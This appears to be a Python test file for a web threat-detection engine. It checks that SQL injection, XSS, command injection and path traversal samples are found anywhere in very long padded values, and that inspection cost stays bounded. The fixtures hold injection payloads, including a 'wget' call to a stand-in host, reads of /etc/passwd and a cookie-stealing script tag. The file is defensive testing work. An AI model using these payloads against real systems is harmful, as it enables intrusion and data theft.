from __future__ import annotations

from collections.abc import Callable

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from steersman.engine.threats import Field, Kind, inspect, inspect_value, inspecting, window

ATTACKS = {
    Kind.SQL: ["' or 1=1-- ", "1 union select password from users", "'; drop table users-- "],
    Kind.XSS: ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)"],
    Kind.COMMAND: ["; cat /etc/passwd", "$(whoami)", "| wget http://x.example/a"],
    Kind.PATH: ["../../../../etc/passwd"],
}
PADDINGS: dict[str, Callable[[int], str]] = {
    "letters": lambda size: "a" * size,
    "words": lambda size: ("many honest words stand here and mean nothing. " * (size // 40))[:size],
    "numbers": lambda size: ("0.25, 17, 1767225600, " * (size // 20))[:size],
    "rows": lambda size: ('{"name": "web-1", "state": "up"}, ' * (size // 30))[:size],
    "percent": lambda size: ("%E4%BD%A0" * (size // 8))[:size],
}
#: Pieces that are repeated to make a value which is meant to be slow.
HOSTILE = [
    "'",
    "<a ",
    "%25",
    "&lt;",
    "/*",
    "a=1&",
    "../",
    '"a":1,',
    "\r\nX: '",
    "a: b\n",
    "`",
    "or 1=1 ",
    "on=",
    "{{",
    "\\x3c",
]
HEADS = [
    "POST / HTTP/1.1\r\n\r\n",
    "GET /?",
    "GET / HTTP/1.1\r\n",
    "POST / HTTP/1.1\r\nContent-Type: application/json\r\n\r\n",
]
#: Characters that one value may cost at most, however long it is: both ends, and stretches of at most 1,280.
MOST_OF_A_VALUE = 2 * window.END + 1300 * window.MOST_STRETCHES
MOST_OF_A_REQUEST = inspecting.MOST_CHARACTERS + MOST_OF_A_VALUE + len(Field) * (2 * window.END + 4 * 1300)


@pytest.mark.parametrize("size", [10, 10_000, 1_000_000])
@pytest.mark.parametrize("piece", HOSTILE)
def test_the_work_is_bounded_however_long_the_input_is(piece: str, size: int) -> None:
    value = (piece * size)[:size]
    assert inspect_value(value).looked_at <= min(size, MOST_OF_A_VALUE)
    for head in HEADS:
        assert inspect(head + value).looked_at <= MOST_OF_A_REQUEST


PLACES = [
    (kind, attack, padding)
    for kind, attacks in ATTACKS.items()
    for attack in attacks
    for padding in PADDINGS
    # Prose with a command in it is a document about a shell: there only what begins the value counts.
    if not (kind is Kind.COMMAND and padding in {"words", "percent"})
]


@pytest.mark.parametrize(("kind", "attack", "padding"), PLACES)
def test_no_place_in_a_long_value_is_a_blind_spot(kind: Kind, attack: str, padding: str) -> None:
    around = PADDINGS[padding](60_000)
    for place in (0, 9_000, 33_333, 60_000):
        verdict = inspect_value(f"{around[:place]} {attack} {around[place:]}", Field.JSON)
        assert verdict.kind is kind, place
        assert "screened" in verdict.reason


@pytest.mark.parametrize("padding", PADDINGS)
def test_padding_alone_is_no_attack(padding: str) -> None:
    assert inspect_value(PADDINGS[padding](100_000), Field.JSON).kind is Kind.NONE


@given(st.integers(0, 40_000), st.sampled_from(list(ATTACKS.items())))
@settings(max_examples=40, deadline=None)
def test_every_offset_is_seen_also_across_the_edges_of_stretches(offset: int, attack: tuple[Kind, list[str]]) -> None:
    value = "x" * offset + " " + attack[1][0] + " " + "y" * (40_000 - offset)
    assert inspect_value(value).is_attack


def test_an_attack_behind_the_budget_of_a_request_is_found_by_the_screen() -> None:
    rows = "&".join(f"field{number}={number}{'word+' * 60}" for number in range(230))
    assert inspect(f"GET /?{rows} HTTP/1.1\r\n\r\n").kind is Kind.NONE
    verdict = inspect(f"GET /?{rows}&id=1%20union%20select%20password%20from%20users HTTP/1.1\r\n\r\n")
    assert verdict.kind is Kind.SQL
    assert "screened what is behind" in verdict.reason


def test_a_flood_of_suspicious_stretches_is_told() -> None:
    verdict = inspect_value("select the (first) 'one'; " * 20_000)
    assert "less suspicious" in verdict.reason


def test_the_worst_stretches_are_looked_at_first() -> None:
    decoys = "it's (so) " * 20_000
    assert inspect_value(decoys[:90_000] + "<script>alert(document.cookie)</script>" + decoys[90_000:]).kind is Kind.XSS
